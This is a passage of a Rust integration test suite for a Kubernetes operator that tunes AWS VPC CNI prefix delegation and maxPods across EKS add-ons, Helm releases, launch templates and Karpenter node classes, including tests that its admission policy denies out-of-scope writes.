    //    that does to add-on updates, and an add-on update with NONE fails.
    let mut ds_mode = cluster.operator_with("tuner-ds", &eks_env(), &flags("daemonset"));
    let message = cluster
        .wait_for_condition(conditions::DEGRADED, &ds_mode, |c| {
            c.status == "True" && c.message.contains("EKS managed add-on")
        })
        .await
        .message;
    let policy = cluster.get_policy("all").await;
    assert!(message.contains("--cni-config-via"), "{message}");
    assert_eq!(cni_config(&policy)["via"], "DaemonSet");
    assert_eq!(
        cluster
            .env_value("ENABLE_PREFIX_DELEGATION")
            .await
            .as_deref(),
        Some("true")
    );
    let failed = eks
        .user_update(Some("v1.19.3-eksbuild.1"), None, "NONE")
        .await;
    assert_eq!(failed.status, "Failed", "{failed:?}");
    assert!(
        failed.errors[0].1.contains("vpc-cni-tuner")
            && failed.errors[0].1.contains("ENABLE_PREFIX_DELEGATION"),
        "{failed:?}"
    );
    assert_eq!(
        eks.requests(),
        Vec::<String>::new(),
        "DaemonSet mode calls no EKS API"
    );
    ds_mode.terminate(Duration::from_secs(10));

    // 2. Add-on mode (auto: EKS applies aws-node): one UpdateAddon, other keys kept, nothing
    //    of aws-node owned by the operator any more.
    let operator = cluster.operator_with("tuner-0", &eks_env(), &flags("auto"));
    cluster
        .wait_for_condition(conditions::CNI_CONFIGURED, &operator, |c| {
            c.status == "True" && c.message.contains("configurationValues")
        })
        .await;
    let policy = cluster.get_policy("all").await;
    let sent: Value = serde_json::from_str(&eks.configuration_values().unwrap()).unwrap();
    assert_eq!(
        sent,
        json!({"env": {"AWS_VPC_K8S_CNI_LOGLEVEL": "INFO", "ENABLE_PREFIX_DELEGATION": "true",
                       "WARM_PREFIX_TARGET": "1"},
               "resources": {"requests": {"cpu": "30m"}}})
    );
    assert_eq!(eks.update_calls(), 1, "{:?}", eks.requests());
    let config = cni_config(&policy);
    assert_eq!(config["via"], "EksAddon");
    assert_eq!(config["eksAddon"]["clusterName"], eks_double::CLUSTER);
    assert_eq!(
        config["eksAddon"]["env"],
        json!({"ENABLE_PREFIX_DELEGATION": "true", "WARM_PREFIX_TARGET": "1"})
    );
    assert!(config["eksAddon"]["lastUpdateId"].is_string(), "{config}");
    let ds = daemonsets(&cluster.admin).get("aws-node").await.unwrap();
    assert!(
        !managers(&ds).contains(&"vpc-cni-tuner".to_owned()),
        "{:?}",
        managers(&ds)
    );
    assert_eq!(
        cluster.env_value("WARM_PREFIX_TARGET").await.as_deref(),
        Some("1")
    );
    assert!(
        cluster
            .events("all")
            .await
            .iter()
            .any(|e| e.reason.as_deref() == Some("EksAddonUpdated")
                && e.note
                    .as_deref()
                    .unwrap_or_default()
                    .contains("ENABLE_PREFIX_DELEGATION")),
        "an EksAddonUpdated Event"
    );
    let converged = eks.requests().len();

    // 3. The next add-on update with resolveConflicts NONE succeeds and keeps the settings.
    let update = eks
        .user_update(Some("v1.19.3-eksbuild.1"), None, "NONE")
        .await;
    assert_eq!(update.status, "Successful", "{update:?}");
    assert_eq!(
        cluster
            .env_value("ENABLE_PREFIX_DELEGATION")
            .await
            .as_deref(),
        Some("true")
    );

    // 4. Steady state: another node joins; once the status shows it and the update's end,
    //    nothing more is written, to EKS or to the API server.
    cluster.node_joins("n-2", 2, &operator).await;
    eventually(
        "the update followed to its end",
        CONVERGE,
        &[&operator],
        || async {
            let p = cluster.get_policy("all").await;
            (cni_config(&p)["eksAddon"]["lastUpdateStatus"] == "Successful").then_some(())
        },
    )
    .await;
    let policy_version = cluster.get_policy("all").await.metadata.resource_version;
    let ds_version = daemonsets(&cluster.admin)
        .get("aws-node")
        .await
        .unwrap()
        .metadata
        .resource_version;
    tokio::time::sleep(Duration::from_secs(3)).await;
    assert_eq!(eks.update_calls(), 1, "{:?}", eks.requests());
    assert_eq!(
        cluster.get_policy("all").await.metadata.resource_version,
        policy_version
    );
    assert_eq!(
        daemonsets(&cluster.admin)
            .get("aws-node")
            .await
            .unwrap()
            .metadata
            .resource_version,
        ds_version
    );
    let steady = eks.requests().len() - converged;

    // 5. Infrastructure as code writes its own configurationValues back: drift, reported and
    //    corrected once, after the backoff.
    let revert = eks
        .user_update(None, Some(IAC_CONFIGURATION), "OVERWRITE")
        .await;
    assert_eq!(revert.status, "Successful", "{revert:?}");
    assert_eq!(
        cluster
            .env_value("ENABLE_PREFIX_DELEGATION")
            .await
            .as_deref(),
        Some("false")
    );
    cluster
        .wait_for_env(
            "ENABLE_PREFIX_DELEGATION",
            "true",
            "drift corrected",
            CONVERGE,
            &[&operator],
        )
        .await;
    let drift_event = cluster
        .events("all")
        .await
        .into_iter()
        .find(|e| e.reason.as_deref() == Some("EksAddonDriftRestored"))
        .expect("an EksAddonDriftRestored Event");
    assert!(
        drift_event
            .note
            .as_deref()
            .unwrap_or_default()
            .contains("configurationValues.env: ENABLE_PREFIX_DELEGATION: (unset) -> true"),
        "{drift_event:?}"
    );
    tokio::time::sleep(Duration::from_secs(3)).await;
    assert_eq!(
        eks.update_calls(),
        2,
        "one correction: {:?}",
        eks.requests()
    );
    let ds = daemonsets(&cluster.admin).get("aws-node").await.unwrap();
    assert!(!managers(&ds).contains(&"vpc-cni-tuner".to_owned()));
    let first_drift = eks.requests().len() - converged - steady;

    // 6. Reverted again within the day: the keys are handed over to the add-on's owner, with
    //    the fix; no second correction (each restarts aws-node on every node), and none after
    //    a third revert either (before: a correction after each, forever).
    eks.user_update(None, Some(IAC_CONFIGURATION), "OVERWRITE")
        .await;
    let handed = cluster
        .wait_for_condition(conditions::CNI_CONFIGURED, &operator, |c| {
            c.reason == "AddonHandedOver"
        })
        .await;
    assert!(
        handed.message.contains("ENABLE_PREFIX_DELEGATION=true")
            && handed
                .message
                .contains("Terraform aws_eks_addon configuration_values"),
        "{}",
        handed.message
    );
    let record = cni_config(&cluster.get_policy("all").await)["handover"].clone();
    assert_eq!(record["handedOver"], true, "{record}");
    assert_eq!(record["reverts"], 2, "{record}");
    cluster
        .wait_for_event("all", "AwsNodeHandedOver", &[&operator])
        .await;
    eks.user_update(None, Some(IAC_CONFIGURATION), "OVERWRITE")
        .await;
    tokio::time::sleep(Duration::from_secs(12)).await;
    assert_eq!(
        eks.update_calls(),
        2,
        "one restore, then the handover, none after: {:?}",
        eks.requests()
    );
    assert_eq!(
        cluster
            .env_value("ENABLE_PREFIX_DELEGATION")
            .await
            .as_deref(),
        Some("false"),
        "the owner's values run"
    );
    // maxPods follows what aws-node runs: secondary IPs (m5.large: 29).
    let status = cluster.get_policy("all").await.status.unwrap();
    assert_eq!(status.prefix_delegation, Some(false));
    assert_eq!(status.max_pods, Some(29));
    eprintln!(
        "EKS requests by the operator: converge {converged}, steady state {steady}, first drift {first_drift}, in all {}: {:?}",
        eks.requests().len(),
        eks.requests()
    );
}

/// EKS add-on mode, DryRun and IAM: a DryRun policy shows the exact configurationValues it would
/// send and sends nothing; in Enforce, an UpdateAddon the IAM policy refuses is reported with
/// the missing action, and aws-node is not touched. Without a cluster name the operator writes
/// nothing to an EKS-managed aws-node and says how to fix it.
#[tokio::test]
async fn eks_addon_dry_run_shows_configuration_values_and_access_denied_names_the_action() {
    let Some((cluster, eks)) = eks_cluster(None).await else {
        return;
    };
    cluster
        .single_node_fleet(json!({"enforcement": "DryRun"}))
        .await;
    eks.deny("UpdateAddon");
    // Without a cluster name (the chart sets EKS_CLUSTER_NAME; this run clears it, and this
    // aws-node has no CLUSTER_NAME) nothing is written and Ready says what to set.
    let container_env_has_name = ChartContainer::from_rendered(&cluster.rendered, NS, "x")
        .env
        .iter()
        .any(|(k, v)| k == "EKS_CLUSTER_NAME" && v == eks_double::CLUSTER);
    assert!(container_env_has_name, "the chart sets EKS_CLUSTER_NAME");
    let mut env = eks_env();
    env.push(("EKS_CLUSTER_NAME", String::new()));
    let mut unnamed =
        cluster.operator_with("tuner-unnamed", &env, &[("--eks-endpoint-url", eks.url())]);
    let message = cluster
        .wait_for_condition(conditions::CNI_CONFIGURED, &unnamed, |c| {
            c.reason == "EksClusterUnknown"
        })
        .await
        .message;
    assert!(
        message.contains("--eks-cluster-name") && message.contains("eks.clusterName"),
        "{message}"
    );
    unnamed.terminate(Duration::from_secs(10));
    assert!(eks.requests().is_empty());

    // A cluster in which EKS has no vpc-cni add-on (a wrong name): `eks-addon` and `auto` both
    // say so and write nothing.
    let mut env = eks_env();
    env.push(("EKS_CLUSTER_NAME", "other".into()));
    let mut forced = cluster.operator_with(
        "tuner-forced",
        &env,
        &[
            ("--eks-endpoint-url", eks.url()),
            ("--cni-config-via", "eks-addon".into()),
        ],
    );
    cluster
        .wait_for_condition(conditions::CNI_CONFIGURED, &forced, |c| {
            c.reason == "AddonNotFound"
        })
        .await;
    forced.terminate(Duration::from_secs(10));
    let mut auto = cluster.operator_with("tuner-auto", &env, &[("--eks-endpoint-url", eks.url())]);
    eventually("auto asks EKS", CONVERGE, &[&auto], || async {
        (eks.requests().len() == 2).then_some(())
    })
    .await;
    let message = cluster
        .wait_for_condition(conditions::CNI_CONFIGURED, &auto, |c| {
            c.reason == "AddonNotFound" && c.message.contains("--cni-config-via daemonset")
        })
        .await
        .message;
    assert!(message.contains("cluster other"), "{message}");
    auto.terminate(Duration::from_secs(10));
    assert_eq!(
        eks.requests(),
        ["GET /clusters/other/addons/vpc-cni"; 2],
        "one DescribeAddon each"
    );

    let operator =
        cluster.operator_with("tuner-0", &eks_env(), &[("--eks-endpoint-url", eks.url())]);
    cluster
        .wait_for_condition(conditions::CNI_CONFIGURED, &operator, |c| {
            c.reason == "DryRun" && c.message.contains("configurationValues")
        })
        .await;
    let policy = cluster.get_policy("all").await;
    let want = r#"{"env":{"ENABLE_PREFIX_DELEGATION":"true","WARM_PREFIX_TARGET":"1"}}"#;
    assert_eq!(cni_config(&policy)["eksAddon"]["configurationValues"], want);
    assert!(
        condition_of(&policy, conditions::CNI_CONFIGURED)
            .unwrap()
            .message
            .contains(want)
    );
    assert_eq!(eks.update_calls(), 0);
    assert_eq!(
        cluster
            .env_value("ENABLE_PREFIX_DELEGATION")
            .await
            .as_deref(),
        Some("false")
    );

    // Enforce, without eks:UpdateAddon.
    policies(&cluster.admin)
        .patch(
            "all",
            &PatchParams::default(),
            &Patch::Merge(json!({"spec": {"enforcement": "Enforce"}})),
        )
        .await
        .unwrap();
    let message = cluster
        .wait_for_condition(conditions::CNI_CONFIGURED, &operator, |c| {
            c.reason == "AccessDenied"
        })
        .await
        .message;
    assert!(
        message.contains("eks:UpdateAddon") && message.contains("IAM"),
        "{message}"
    );
    // A refused document is not sent again on every reconcile.
    assert_eq!(eks.update_calls(), 1, "{:?}", eks.requests());
    cluster.node_joins("n-2", 2, &operator).await;
    assert_eq!(eks.update_calls(), 1, "{:?}", eks.requests());
    assert_eq!(
        cluster
            .env_value("ENABLE_PREFIX_DELEGATION")
            .await
            .as_deref(),
        Some("false")
    );
    let ds = daemonsets(&cluster.admin).get("aws-node").await.unwrap();
    assert!(!managers(&ds).contains(&"vpc-cni-tuner".to_owned()));
    eprintln!("EKS requests by the operator: {:?}", eks.requests());
}

/// Karpenter: a policy listing an EC2NodeClass before Karpenter's CRDs exist says so and stays
/// Ready; once they exist, the operator writes the node class's `spec.kubelet.maxPods` (the
/// policy's maxPods for the smallest type the NodePool allows, with the prefix delegation it set
/// on aws-node), owns that field alone, writes nothing in steady state, follows a NodePool
/// change, and reports a NodePool whose types spread widely.
#[tokio::test]
async fn karpenter_node_classes_follow_their_node_pools() {
    let Some(cluster) = Cluster::start_with(json!({"karpenter": {"enabled": true}}), "helm").await
    else {
        return;
    };
    cluster
        .node(
            "n-1",
            json!({"node.kubernetes.io/instance-type": "m5.large"}),
        )
        .await;
    for name in ["karpenter-1", "karpenter-2"] {
        cluster
            .node(
                name,
                json!({"node.kubernetes.io/instance-type": "c6g.large",
                       "karpenter.sh/nodepool": "general",
                       "karpenter.k8s.aws/ec2nodeclass": "default"}),
            )
            .await;
    }
    cluster
        .policy(
            "all",
            json!({"karpenter": {"ec2NodeClasses": ["default", "wide"]}}),
        )
        .await;
    let operator = cluster.operator("tuner-0", &[]);

    // No Karpenter CRDs: a condition says so; the aws-node env is still managed.
    let policy = eventually("KarpenterNotInstalled", CONVERGE, &[&operator], || async {
        let p = cluster.get_policy("all").await;
        condition_of(&p, conditions::KARPENTER_SYNCED)
            .filter(|c| c.reason == "KarpenterNotInstalled")
            .map(|_| p.clone())
    })
    .await;
    assert!(is_true(&policy, conditions::READY));
    assert_eq!(
        cluster
            .env_value("ENABLE_PREFIX_DELEGATION")
            .await
            .as_deref(),
        Some("true")
    );

    // Karpenter arrives: its CRDs, a node class a person wrote (maxPods 110, more than a
    // c6g.medium's 8 IPs without prefixes), and NodePools.
    install_karpenter_crds(&cluster);
    let class = ec2_node_class;
    let wide_pool = json!({"apiVersion": "karpenter.sh/v1", "kind": "NodePool",
        "metadata": {"name": "wide"},
        "spec": {"template": {"spec": {
            "nodeClassRef": {"group": "karpenter.k8s.aws", "kind": "EC2NodeClass", "name": "wide"},
            "requirements": [
                {"key": "karpenter.k8s.aws/instance-category", "operator": "In", "values": ["c"]},
                {"key": "kubernetes.io/arch", "operator": "In", "values": ["arm64"]}]}}}});
    apply_objects(
        &cluster.api,
        &cluster.logs,
        &[class("default"), class("wide"), wide_pool],
        &[],
    );
    kubectl_ok(
        &cluster.api,
        &[
            "apply",
            "-f",
            &format!("{ROOT}/tests/fixtures/karpenter/nodepool.yaml"),
        ],
    );
    let classes = node_classes(&cluster);
    let max_pods = |o: &DynamicObject| o.data["spec"]["kubelet"]["maxPods"].as_i64();
    // Prefix delegation is on (Auto, for m5.large); the smallest type NodePool general allows
    // carries 2 ENIs x (4 - 1) x 16 + 2 = 98 pods.
    let written = eventually(
        "EC2NodeClass default maxPods 98",
        CONVERGE,
        &[&operator],
        || async {
            let o = classes.get("default").await.ok()?;
            (max_pods(&o) == Some(98)).then_some(o)
        },
    )
    .await;
    let spec = &written.data["spec"];
    assert_eq!(
        spec["role"], "KarpenterNodeRole-prod",
        "foreign fields untouched"
    );
    assert_eq!(
        spec["amiSelectorTerms"],
        json!([{"alias": "al2023@latest"}])
    );
    assert_eq!(spec["kubelet"]["systemReserved"], json!({"cpu": "100m"}));
    let ours: Vec<_> = written
        .metadata
        .managed_fields
        .iter()
        .flatten()
        .filter(|f| f.manager.as_deref() == Some("vpc-cni-tuner"))
        .collect();
    assert_eq!(ours.len(), 1);
    // The operator's token may change spec.kubelet.maxPods of a node class, not its metadata
    // (an ownerReference to a missing owner would have the garbage collector delete it).
    let as_operator: Api<DynamicObject> = Api::all_with(
        support::envtest::client_for(&cluster.operator_kubeconfig).await,
        &ApiResource::from_gvk(&GroupVersionKind::gvk(
            "karpenter.k8s.aws",
            "v1",
            "EC2NodeClass",
        )),
    );
    let owner = json!({"metadata": {"ownerReferences": [{"apiVersion": "v1", "kind": "ConfigMap",
        "name": "gone", "uid": "00000000-0000-0000-0000-000000000001"}]}});
    let denied = eventually(
        "the node-class policy denies it",
        CONVERGE,
        &[&operator],
        || async {
            as_operator
                .patch(
                    "default",
                    &PatchParams::default().dry_run(),
                    &Patch::Merge(owner.clone()),
                )
                .await
                .err()
        },
    )
    .await;
    assert!(
        denied.to_string().contains("metadata.ownerReferences"),
        "{denied}"
    );
    assert_eq!(
        ours[0].fields_v1.as_ref().unwrap().0,
        json!({"f:spec": {"f:kubelet": {"f:maxPods": {}}}}),
        "the operator owns spec.kubelet.maxPods and nothing else"
    );

    let policy = eventually("node class statuses", CONVERGE, &[&operator], || async {
        let p = cluster.get_policy("all").await;
        let s = p.status.as_ref()?;
        (s.ec2_node_classes.len() == 2
            && s.ec2_node_classes.iter().all(|c| c.in_sync)
            && is_true(&p, conditions::KARPENTER_SYNCED))
        .then_some(p)
    })
    .await;
    let status = policy.status.clone().unwrap();
    let default = &status.ec2_node_classes[0];
    assert_eq!(default.name, "default");
    assert_eq!(default.node_pools, ["general"]);
    assert_eq!(default.max_pods_wanted, Some(98));
    assert_eq!(default.max_pods_found, Some(98));
    assert_eq!(
        default.bounding_instance_type.as_deref(),
        Some("c6g.medium")
    );
    assert_eq!(
        (default.nodes, default.nodes_behind),
        (2, 2),
        "Karpenter replaces them"
    );
    let wide = &status.ec2_node_classes[1];
    assert_eq!(wide.max_pods_wanted, Some(98));
    assert_eq!(wide.pods_lost_on_largest, 250 - 98);
    let degraded = condition_of(&policy, conditions::DEGRADED).unwrap();
    assert_eq!(degraded.status, "True");
    assert!(
        degraded.message.contains("EC2NodeClass wide") && degraded.message.contains("split"),
        "{}",
        degraded.message
    );
    let events = cluster.events("all").await;
    assert!(
        events
            .iter()
            .any(|e| e.reason.as_deref() == Some("EC2NodeClassUpdated")
                && e.note.as_deref().unwrap_or_default().contains(
                    "default: spec.kubelet.maxPods 110 -> 98 (bounded by c6g.medium); \
                               110 was more than the 98 pods the IPs of c6g.medium carry"
                )),
        "{events:?}"
    );

    // Steady state: another node of a known type triggers a reconcile that writes nothing.
    let version = |o: &DynamicObject| o.metadata.resource_version.clone();
    let before = version(&classes.get("default").await.unwrap());
    let wide_before = version(&classes.get("wide").await.unwrap());
    let policy_before = cluster.get_policy("all").await.metadata.resource_version;
    cluster
        .node(
            "n-2",
            json!({"node.kubernetes.io/instance-type": "m5.large"}),
        )
        .await;
    eventually(
        "the new node is counted",
        CONVERGE,
        &[&operator],
        || async {
            let p = cluster.get_policy("all").await;
            (p.status.as_ref()?.matched_nodes == 4).then_some(())
        },
    )
    .await;
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert_eq!(version(&classes.get("default").await.unwrap()), before);
    assert_eq!(version(&classes.get("wide").await.unwrap()), wide_before);
    assert_ne!(
        cluster.get_policy("all").await.metadata.resource_version,
        policy_before
    );

    // The NodePool now allows 4 vCPUs and more only: the value follows (capped at 110).
    let pools: Api<DynamicObject> = Api::all_with(
        cluster.admin.clone(),
        &ApiResource::from_gvk(&GroupVersionKind::gvk("karpenter.sh", "v1", "NodePool")),
    );
    let mut general = pools.get("general").await.unwrap();
    let requirements = general.data["spec"]["template"]["spec"]["requirements"]
        .as_array_mut()
        .unwrap();
    requirements.retain(|r| r["key"] != "karpenter.k8s.aws/instance-cpu");
    requirements
        .push(json!({"key": "karpenter.k8s.aws/instance-cpu", "operator": "Gt", "values": ["3"]}));
    general.metadata.managed_fields = None;
    pools
        .replace("general", &PostParams::default(), &general)
        .await
        .unwrap();
    eventually(
        "EC2NodeClass default maxPods 110",
        CONVERGE,
        &[&operator],
        || async {
            let o = classes.get("default").await.ok()?;
            (max_pods(&o) == Some(110)).then_some(())
        },
    )
    .await;
    assert!(
        operator
            .log()
            .contains("watching NodePools and EC2NodeClasses")
    );

    // The operator's token may change spec.kubelet.maxPods of an EC2NodeClass and nothing else
    // (the chart's admission policy; dry runs, so nothing changes).
    let as_operator: Api<DynamicObject> = Api::all_with(
        support::envtest::client_for(&cluster.operator_kubeconfig).await,
        &ApiResource::from_gvk(&GroupVersionKind::gvk(
            "karpenter.k8s.aws",
            "v1",
            "EC2NodeClass",
        )),
    );
    let apply = |spec: Value| {
        let api = as_operator.clone();
        async move {
            let body = json!({"apiVersion": "karpenter.k8s.aws/v1", "kind": "EC2NodeClass",
                "metadata": {"name": "default"}, "spec": spec});
            let mut params = PatchParams::apply("vpc-cni-tuner").force();
            params.dry_run = true;
            api.patch("default", &params, &Patch::Apply(body))
                .await
                .map(|_| ())
                .map_err(|e| e.to_string())
        }
    };
    apply(json!({"kubelet": {"maxPods": 50}}))
        .await
        .expect("maxPods may change");
    let role = apply(json!({"role": "attacker"}))
        .await
        .expect_err("role is not its field");
    assert!(role.contains("only spec.kubelet.maxPods"), "{role}");
    let reserved = apply(json!({"kubelet": {"systemReserved": {"cpu": "2"}}}))
        .await
        .expect_err("another kubelet setting");
    assert!(reserved.contains("another kubelet setting"), "{reserved}");
}

/// The aws-vpc-cni chart of aws/eks-charts, committed as a test fixture (its version is in
/// tests/fixtures/aws-vpc-cni/Chart.yaml).
const AWS_VPC_CNI_CHART: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/aws-vpc-cni");

/// `helm install|upgrade aws-vpc-cni` of the fixture chart with `values`, through the Helm 4
/// library (server-side apply, without forcing conflicts): Ok(summary) or Err(Helm's error).
fn helm_cni(cluster: &Cluster, command: &str, values: &Value) -> Result<Value, String> {
    let kubeconfig = cluster.api.kubeconfig().to_str().unwrap().to_owned();
    let values = values.to_string();
    let (code, stdout, stderr) = support::chart::chart_py(&[
        command,
        "--kubeconfig",
        &kubeconfig,
        "--chart",
        AWS_VPC_CNI_CHART,
        "--name",
        "aws-vpc-cni",
        "--namespace",
        "kube-system",
        "--values",
        &values,
    ]);
    if code == 0 {
        Ok(serde_json::from_str(&stdout).unwrap())
    } else {
        Err(stderr)
    }
}

async fn aws_node_generation(cluster: &Cluster) -> i64 {
    daemonsets(&cluster.admin)
        .get("aws-node")
        .await
        .unwrap()
        .metadata
        .generation
        .unwrap()
}

/// The real aws-vpc-cni chart installed by Helm (4, server-side apply): the operator never takes
/// the values Helm holds (Helm's next upgrade would fail with a conflict), names the release and
/// the chart values to set, and once they are set, Helm and the operator agree: no aws-node
/// rollout by the operator, and an upgrade with the same values rolls nothing.
#[tokio::test]
async fn helm_release_owner_gets_its_values_and_its_upgrades_never_fail() {
    let Some(cluster) = Cluster::start_listing(json!({}), None, ListMode::Streaming).await else {
        return;
    };
    helm_cni(&cluster, "install", &json!({})).expect("helm install");
    let installed = aws_node_generation(&cluster).await;
    cluster.single_node_fleet(json!({})).await;
    let operator = cluster.operator("tuner-0", &[]);
    let handed = cluster
        .wait_for_condition(conditions::CNI_CONFIGURED, &operator, |c| {
            c.status == "False" && c.reason == "HelmOwnsAwsNode"
        })
        .await;
    assert!(
        handed
            .message
            .contains("helm upgrade aws-vpc-cni eks/aws-vpc-cni -n kube-system --reuse-values")
            && handed
                .message
                .contains("--set-string env.ENABLE_PREFIX_DELEGATION=true"),
        "{}",
        handed.message
    );
    let policy = cluster.get_policy("all").await;
    let status = policy.status.clone().unwrap();
    let cni = status.cni_config.clone().unwrap();
    let owner = cni.owner.clone().unwrap();
    assert_eq!(
        (owner.kind.as_str(), owner.name.as_deref()),
        ("Helm", Some("aws-vpc-cni"))
    );
    assert!(cni.handover.as_ref().is_some_and(|h| h.handed_over));
    assert_eq!(cni.aws_node_rollouts, 0);
    // Ready stays True: the policy is fine, its owner has to act. Argo CD shows the fix.
    assert!(is_true(&policy, conditions::READY));
    let (health, message) = support::argocd::health(&serde_json::to_value(&policy).unwrap());
    assert_eq!(health, "Degraded", "{message}");
    cluster
        .wait_for_event("all", "AwsNodeHandedOver", &[&operator])
        .await;
    assert_eq!(aws_node_generation(&cluster).await, installed);
    // Helm's upgrades keep working: nothing of aws-node is the operator's.
    helm_cni(&cluster, "upgrade", &json!({})).expect("helm upgrade next to the operator");

    // The values the operator named, set in the release.
    let values = json!({"env": status.cni_env});
    helm_cni(&cluster, "upgrade", &values).expect("helm upgrade with the operator's values");
    let adopted = aws_node_generation(&cluster).await;
    assert_eq!(adopted, installed + 1, "one rollout, Helm's");
    cluster
        .wait_for_condition(conditions::CNI_CONFIGURED, &operator, |c| {
            c.status == "True" && c.reason == "InSync"
        })
        .await;
    let cni = cluster
        .get_policy("all")
        .await
        .status
        .unwrap()
        .cni_config
        .unwrap();
    assert_eq!(cni.handover, None, "the handover ends once Helm agrees");
    assert_eq!(cni.aws_node_rollouts, 0);
    helm_cni(&cluster, "upgrade", &values).expect("the next upgrade");
    tokio::time::sleep(Duration::from_secs(3)).await;
    assert_eq!(
        aws_node_generation(&cluster).await,
        adopted,
        "the next upgrade and the operator agree: nothing rolls"
    );
    let ds = daemonsets(&cluster.admin).get("aws-node").await.unwrap();
    assert!(
        ds.managed_fields()
            .iter()
            .all(|m| m.manager.as_deref() != Some("vpc-cni-tuner")),
        "the operator never wrote aws-node"
    );
}

/// A Node's `status.capacity.pods`, as its kubelet reports it.
async fn set_capacity(cluster: &Cluster, node: &str, pods: u32) {
    let nodes: Api<Node> = Api::all(cluster.admin.clone());
    nodes
        .patch_status(
            node,
            &PatchParams::default(),
            &Patch::Merge(json!({"status": {"capacity": {"pods": pods.to_string()}}})),
        )
        .await
        .unwrap();
}

/// maxPods in the user data of a template's default version.
async fn default_max_pods(ec2: &aws_sdk_ec2::Client, id: &str) -> Option<u32> {
    use base64::Engine as _;
    let version = support::launch_templates::default_version(ec2, id).await;
    let all = support::launch_templates::versions(ec2, id).await;
    let data = all
        .iter()
        .find(|v| v.version_number() == Some(version))?
        .launch_template_data()?
        .user_data()?
        .to_owned();
    let raw = base64::engine::general_purpose::STANDARD
        .decode(data)
        .unwrap();
    let format = vpc_cni_tuner::userdata::detect(&raw).ok()?;
    vpc_cni_tuner::userdata::read_max_pods(&raw, format).ok()?
}

/// Karpenter's CRDs (the fixture of its v1 API), established.
fn install_karpenter_crds(cluster: &Cluster) {
    kubectl_ok(
        &cluster.api,
        &[
            "apply",
            "-f",
            &format!("{ROOT}/tests/fixtures/karpenter/crds.yaml"),
        ],
    );
    wait_established(
        &cluster.api,
        &[
            "crd/nodepools.karpenter.sh",
            "crd/ec2nodeclasses.karpenter.k8s.aws",
        ],
    );
}

/// An EC2NodeClass as a person writes it, with kubelet maxPods 110 (more than a c6g.medium's
/// 8 IPs without prefixes) and a foreign kubelet field.
fn ec2_node_class(name: &str) -> Value {
    json!({"apiVersion": "karpenter.k8s.aws/v1", "kind": "EC2NodeClass",
        "metadata": {"name": name},
        "spec": {"role": "KarpenterNodeRole-prod",
                 "amiSelectorTerms": [{"alias": "al2023@latest"}],
                 "subnetSelectorTerms": [{"tags": {"karpenter.sh/discovery": "prod"}}],
                 "kubelet": {"maxPods": 110, "systemReserved": {"cpu": "100m"}}}})
}

fn node_classes(cluster: &Cluster) -> Api<DynamicObject> {
    Api::all_with(
        cluster.admin.clone(),
        &ApiResource::from_gvk(&GroupVersionKind::gvk(
            "karpenter.k8s.aws",
            "v1",
            "EC2NodeClass",
        )),
    )
}

/// The real aws-vpc-cni chart (Helm 4, server-side) keeps `ENABLE_PREFIX_DELEGATION=false`, so
/// the operator hands aws-node over. maxPods then follows the mode aws-node runs, not the
/// policy's wish: the launch template gets 29 for m5.large (secondary IPs), not 110, which
/// would strand pods on every new node. The owner turns prefix delegation on: the template
/// follows to 110. A node reaching the wanted maxPods is counted from the Node watch at once,
/// without the template being read again.
#[tokio::test(flavor = "multi_thread")]
async fn max_pods_follows_the_mode_aws_node_runs_after_a_handover() {
    use support::launch_templates::{AL2023, create_template, versions};
    let moto = support::MotoServer::start();
    let values = json!({"aws": {"region": "us-east-1", "ec2EndpointUrl": moto.endpoint()},
        "karpenter": {"enabled": true}});
    let Some(cluster) = Cluster::start_listing(values, None, ListMode::Streaming).await else {
        return;
    };
    helm_cni(&cluster, "install", &json!({})).expect("helm install");
    // Karpenter: an EC2NodeClass a person wrote with maxPods 110, and the getting-started
    // NodePool on it (its smallest type, c6g.medium, has 2 ENIs of 4 IPs).
    install_karpenter_crds(&cluster);
    apply_objects(
        &cluster.api,
        &cluster.logs,
        &[ec2_node_class("default")],
        &[],
    );
    kubectl_ok(
        &cluster.api,
        &[
            "apply",
            "-f",
            &format!("{ROOT}/tests/fixtures/karpenter/nodepool.yaml"),
        ],
    );
    let classes = node_classes(&cluster);
    let class_max_pods = || async {
        let o = classes.get("default").await.ok()?;
        o.data["spec"]["kubelet"]["maxPods"].as_i64()
    };
    let ec2 = moto.ec2_client();
    let template = create_template(&ec2, "web-nodes", AL2023.as_bytes()).await;
    let instance = support::launch_templates::run_instance(&ec2, &template).await;
    cluster.ec2_node("web-1", "web", &instance).await;
    // It booted with prefix-delegation maxPods from an earlier template.
    set_capacity(&cluster, "web-1", 110).await;
    cluster
        .policy(
            "all",
            json!({"launchTemplates": [{"id": template, "setDefaultVersion": true}],
                   "karpenter": {"ec2NodeClasses": ["default"]}}),
        )
        .await;
    let operator = cluster.operator("tuner-0", &moto.aws_env());

    let policy = eventually("templates at 29", CONVERGE, &[&operator], || async {
        let p = cluster.get_policy("all").await;
        let s = p.status.as_ref()?;
        (is_true(&p, conditions::LAUNCH_TEMPLATES_SYNCED) && s.max_pods == Some(29)).then_some(p)
    })
    .await;
    let status = policy.status.clone().unwrap();
    assert_eq!(status.prefix_delegation, Some(false));
    assert_eq!(status.instance_types[0].max_pods, 29);
    assert_eq!(
        status
            .cni_env
            .get("ENABLE_PREFIX_DELEGATION")
            .map(String::as_str),
        Some("true"),
        "the status still says what the policy would set"
    );
    let configured = condition_of(&policy, conditions::CNI_CONFIGURED).unwrap();
    assert_eq!(configured.reason, "HelmOwnsAwsNode");
    assert!(
        configured
            .message
            .contains("runs ENABLE_PREFIX_DELEGATION=false, not the true this policy wants"),
        "{}",
        configured.message
    );
    assert_eq!(default_max_pods(&ec2, &template).await, Some(29));
    assert_eq!(versions(&ec2, &template).await.len(), 2);
    // The node class too: c6g.medium without prefixes, 2 x (4 - 1) + 2 = 8 (98 with them).
    eventually("EC2NodeClass at 8", CONVERGE, &[&operator], || async {
        (class_max_pods().await == Some(8)).then_some(())
    })
    .await;
    assert_eq!(
        cluster
            .env_value("ENABLE_PREFIX_DELEGATION")
            .await
            .as_deref(),
        Some("false"),
        "the owner's value is never taken"
    );
    let synced = &status.launch_templates[0];
    assert_eq!((synced.nodes, synced.nodes_behind), (Some(1), Some(1)));

    // The node is replaced by one at the wanted maxPods (here: its kubelet reports it): the
    // figures follow the Node watch within seconds, with no new read of the template.
    let reads = aws_calls(&operator, "DescribeLaunchTemplateVersions").unwrap();
    set_capacity(&cluster, "web-1", 29).await;
    let started = Instant::now();
    eventually(
        "nodesBehind 0",
        Duration::from_secs(10),
        &[&operator],
        || async {
